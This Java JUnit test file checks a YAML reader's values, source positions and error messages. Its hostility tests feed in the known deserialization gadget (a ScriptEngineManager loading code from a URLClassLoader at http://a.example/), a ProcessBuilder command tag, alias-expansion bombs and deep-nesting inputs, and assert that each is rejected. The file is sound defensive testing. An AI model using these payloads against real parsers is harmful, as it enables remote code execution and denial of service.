package io.github.proposals.model.yaml;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.proposals.model.diagnostic.Finding;
import io.github.proposals.model.text.SourceText;
import io.github.proposals.model.text.Span;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** YAML becomes values with places, and no file, however hostile, does more than make a finding. */
class YamlReaderTest {

    @Nested
    class Values {

        @ParameterizedTest
        @ValueSource(strings = {"0010", "no", "2026-01-01", "1e3", "0x1F", "true", "~x", "12:30:45", ".inf"})
        void areNeverInterpreted(String value) {
            assertEquals(value, value("key: " + value + "\n", "key"));
        }

        @Test
        void comeWithoutQuotes() {
            assertAll(
                    () -> assertEquals("a: 'b'", value("key: \"a: 'b'\"", "key")),
                    () -> assertEquals("it's", value("key: 'it''s'", "key")),
                    () -> assertEquals("🚀\n", value("key: \"\\U0001F680\\n\"", "key")));
        }

        @Test
        void mayBeWrittenOverSeveralLines() {
            assertAll(
                    () -> assertEquals("a b", value("key: >-\n  a\n  b\n", "key")),
                    () -> assertEquals("a\nb\n", value("key: |\n  a\n  b\n", "key")),
                    () -> assertEquals("a b", value("key: a\n  b\n", "key")));
        }

        @ParameterizedTest
        @ValueSource(strings = {"key:", "key: ", "key: null", "key: ~", "key: # a remark"})
        void thatAreNothingAreNotGiven(String yaml) {
            assertFalse(mapping(yaml + "\nother: 1\n").entries().containsKey("key"));
        }

        @Test
        void thatAreEmptyButQuotedAreGiven() {
            assertEquals("", value("key: ''\n", "key"));
        }

        @Test
        void ofAListMayBeLeftOut() {
            assertEquals(2, sequence("[1, ~, 2]").items().size());
        }

        @ParameterizedTest
        @ValueSource(strings = {"", "   \n\n", "# only a remark\n", "---\n", "---\n...\n"})
        void canBeMissingAltogether(String yaml) {
            YamlReader reader = reader(yaml);
            Optional<YamlNode> root = reader.read();

            assertAll(
                    () -> assertEquals(
                            "",
                            root.map(node -> ((YamlNode.Scalar) node).text()).orElse("")),
                    () -> assertEquals(List.of(), reader.findings()));
        }

        @Test
        void standInTheOrderOfTheFile() {
            assertEquals(
                    List.of("z", "a", "m"),
                    List.copyOf(mapping("{z: 1, a: 2, m: 3}").entries().keySet()));
        }

        @Test
        void canBeRepeatedByName() {
            assertEquals("1", value("a: &name 1\nb: *name\n", "b"));
        }
    }

    @Nested
    class Places {

        @Test
        void coverTheValue() {
            YamlNode node =
                    mapping("a: 1\nkey: value # remark\n").entries().get("key").value();

            assertAll(
                    () -> assertEquals("a.yaml:2:6", node.place().toString()),
                    () -> assertEquals(11, node.place().end().column()));
        }

        @Test
        void countAnEmojiAsOneColumn() {
            YamlNode.Entry entry = mapping("{🚀🚀: 🚀, key: value}").entries().get("key");

            assertAll(
                    () -> assertEquals("a.yaml:1:9", entry.key().place().toString()),
                    () -> assertEquals("a.yaml:1:14", entry.value().place().toString()),
                    () -> assertEquals(13, entry.value().place().excerpt().from()));
        }

        @Test
        void areRightBehindLinesWithEmojis() {
            assertEquals(
                    "a.yaml:3:6",
                    mapping("# 🚀🚀🚀🚀\na: 🚀\nkey: value\n")
                            .entries()
                            .get("key")
                            .value()
                            .place()
                            .toString());
        }

        @Test
        void areRightInAFileOfWindows() {
            assertEquals(
                    "a.yaml:3:6",
                    mapping("a: 1\r\n\r\nkey: value\r\n")
                            .entries()
                            .get("key")
                            .value()
                            .place()
                            .toString());
        }

        @Test
        void countFromTheStartOfTheFileForAPartOfIt() {
            String content = "🚀 text\n---\nkey: value\n---\n";
            int start = content.indexOf("key");
            YamlReader reader =
                    new YamlReader(new SourceText("a.md", content), new Span(start, content.lastIndexOf("---")));
            YamlNode.Mapping mapping =
                    assertInstanceOf(YamlNode.Mapping.class, reader.read().orElseThrow());

            assertEquals(
                    "a.md:3:6", mapping.entries().get("key").value().place().toString());
        }

        @Test
        void ofManyLinesEndWithTheirFirstOne() {
            YamlNode node = mapping("key: >-\n  a\n  b\n").entries().get("key").value();

            assertEquals(1, node.place().end().line());
        }
    }

    @Nested
    class Mistakes {

        @Test
        void aKeyThatIsGivenTwiceIsAFindingAndTheFirstOneCounts() {
            YamlReader reader = reader("a: 1\nb: 2\na: 3\n");
            YamlNode.Mapping mapping =
                    assertInstanceOf(YamlNode.Mapping.class, reader.read().orElseThrow());
            Finding finding = only(reader);

            assertAll(
                    () -> assertEquals("the key 'a' is given twice", finding.message()),
                    () -> assertEquals("a.yaml:3:1", finding.place().toString()),
                    () -> assertEquals(
                            "1", ((YamlNode.Scalar) mapping.entries().get("a").value()).text()));
        }

        @Test
        void aKeyThatIsNoWordIsAFinding() {
            YamlReader reader = reader("a: 1\n? [b, c]\n: 2\n");

            assertAll(
                    () -> assertTrue(reader.read().isPresent()),
                    () -> assertEquals(
                            "a key must be a single word", only(reader).message()),
                    () -> assertEquals("a.yaml:2:3", only(reader).place().toString()));
        }

        @Test
        void aTabInTheIndentationIsAFindingAtItsPlace() {
            Finding finding = failing("a:\n\tb: 1\n");

            assertAll(
                    () -> assertTrue(finding.message().startsWith("this is not YAML: "), finding.message()),
                    () -> assertEquals(2, finding.place().start().line()));
        }

        @ParameterizedTest
        @ValueSource(strings = {"a: [1, 2\n", "a: {b: 1\n", "a: \"open\n\n\n"})
        void whatIsNeverClosedIsAFindingWhereItWasOpened(String yaml) {
            assertEquals("a.yaml:2:4", failing("# first\n" + yaml).place().toString());
        }

        @ParameterizedTest
        @ValueSource(strings = {"a: b: c", "- a\nb: c", "a: *nobody", "a: @b", "%", "a: `b`", "]", "a: \"\\q\""})
        void whatIsNoYamlIsAFinding(String yaml) {
            assertTrue(failing(yaml).message().startsWith("this is not YAML"));
        }

        @ParameterizedTest
        @CsvSource(
                delimiter = '|',
                quoteCharacter = '`',
                value = {
                    "a: b: c | this ':' stands in the middle of a value | write the value in quotes, or begin a line with the key, as far in as the keys beside it",
                    "`a: b\n  c: d` | this ':' stands in the middle of a value | write the value in quotes, or begin a line with the key, as far in as the keys beside it",
                    "a: @b | this sign cannot begin a value | write the value in quotes",
                    "a: [b, c | this list is not closed, or a comma is missing in it | put a comma between its items, and ']' behind the last one",
                    "a: *nobody | '*' stands in front of a name that no '&' gives | write '&' and the name in front of the value that is meant, further up",
                    "a: \"\\q\" | this backslash means nothing in double quotes | write the value in single quotes"
                })
        void theFindingSaysWhatToDo(String yaml, String message, String help) {
            Finding finding = failing(yaml);

            assertAll(
                    () -> assertEquals("this is not YAML: " + message, finding.message()),
                    () -> assertEquals(help, finding.help()));
        }

        @Test
        void twoDocumentsAreAFindingAtTheSecondOne() {
            assertEquals(2, failing("a: 1\n---\nb: 2\n").place().start().line());
        }

        @ParameterizedTest
        @ValueSource(strings = {"a: \u0000", "a: \u0007", "\uD83D", "a: \uFFFE"})
        void aCharacterThatYamlForbidsIsAFinding(String yaml) {
            assertTrue(failing(yaml).message().startsWith("this is not YAML"));
        }

        @Test
        void theFindingsCannotBeChanged() {
            YamlReader reader = reader("a: [");
            reader.read();

            assertThrows(
                    UnsupportedOperationException.class, () -> reader.findings().clear());
        }
    }

    @Nested
    class Hostility {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://a.example/']]]]",
                    "!!java.lang.ProcessBuilder [['touch', 'x']]",
                    "key: !!java.util.Date 2026-01-01"
                })
        void aTagThatNamesAClassIsAFinding(String yaml) {
            assertTrue(failing(yaml).message().startsWith("this is not YAML: Global tag is not allowed"));
        }

        @Test
        void aTagOfYamlDoesNotChangeAValue() {
            assertAll(
                    () -> assertEquals("12", value("key: !!str 12", "key")),
                    () -> assertEquals("aGk=", value("key: !!binary aGk=", "key")),
                    () -> assertEquals("x", value("key: !local x", "key")));
        }

        @Test
        void aBombOfAliasesIsAFinding() {
            String bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
                    + IntStream.rangeClosed(1, 9)
                            .mapToObj(i -> "a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ", ").repeat(9) + "]\n")
                            .collect(Collectors.joining());

            assertFails(bomb);
        }

        @Test
        void aBombOfFewAliasesIsAFinding() {
            String bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
                    + IntStream.rangeClosed(1, 20)
                            .mapToObj(i -> "a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ", ").repeat(2) + "]\n")
                            .collect(Collectors.joining());

            assertTooMuch(bomb);
        }

        @Test
        void aListThatHoldsItselfIsAFinding() {
            assertTooMuch("a: &a [*a]\n");
        }

        @Test
        void aMappingThatHoldsItselfIsAFinding() {
            assertTooMuch("&a\nkey: *a\n");
        }

        @Test
        void deepNestingIsAFinding() {
            assertAll(
                    () -> assertFails("a: " + "[".repeat(20_000) + "]".repeat(20_000)),
                    () -> assertFails("{a: ".repeat(20_000)),
                    () -> assertFails("- ".repeat(20_000) + "x"));
        }

        @Test
        void theDepthThatPeopleWriteIsFine() {
            assertTrue(reader("[".repeat(20) + "x" + "]".repeat(20)).read().isPresent());
        }

        @Test
        void aFileOfMegabytesIsAFinding() {
            assertFails("key: " + "x".repeat(2 << 20));
        }

        @Test
        void moreValuesThanAnybodyWritesAreAFinding() {
            assertTooMuch("[" + "x,".repeat(60_000) + "x]");
        }

        @Test
        void manyValuesAreFine() {
            assertEquals(
                    10_000, sequence("[" + "x,".repeat(9_999) + "x]").items().size());
        }

        @Test
        void aMergeKeyIsAKeyLikeAnyOther() {
            YamlNode.Mapping mapping = mapping("base: &base {a: 1}\nkey:\n  <<: *base\n  b: 2\n");
            YamlNode.Mapping key = assertInstanceOf(
                    YamlNode.Mapping.class, mapping.entries().get("key").value());

            assertEquals(List.of("<<", "b"), List.copyOf(key.entries().keySet()));
        }

        private void assertTooMuch(String yaml) {
            Finding finding = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> failing(yaml));

            assertEquals("more values than anybody writes, or aliases that lead back to themselves", finding.message());
        }

        private void assertFails(String yaml) {
            Finding finding = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> failing(yaml));

            assertTrue(finding.message().startsWith("this is not YAML"), finding.message());
        }
    }

    private static YamlReader reader(String yaml) {
        return new YamlReader(new SourceText("a.yaml", yaml));
    }

    private static Finding only(YamlReader reader) {
        assertEquals(1, reader.findings().size(), reader.findings()::toString);
        return reader.findings().get(0);
    }

    /** {@return the one finding of a text that holds no value} */
    private static Finding failing(String yaml) {
        YamlReader reader = reader(yaml);
        assertEquals(Optional.empty(), reader.read());
        return only(reader);
    }

    private static YamlNode read(String yaml) {
        YamlReader reader = reader(yaml);
        YamlNode node = reader.read().orElseThrow(() -> new AssertionError(reader.findings()));
        assertEquals(List.of(), reader.findings());
        return node;
    }

    private static YamlNode.Mapping mapping(String yaml) {
        return assertInstanceOf(YamlNode.Mapping.class, read(yaml));
    }

    private static YamlNode.Sequence sequence(String yaml) {
        return assertInstanceOf(YamlNode.Sequence.class, read(yaml));
    }

    private static String value(String yaml, String key) {
        return assertInstanceOf(
                        YamlNode.Scalar.class, mapping(yaml).entries().get(key).value())
                .text();
    }
}
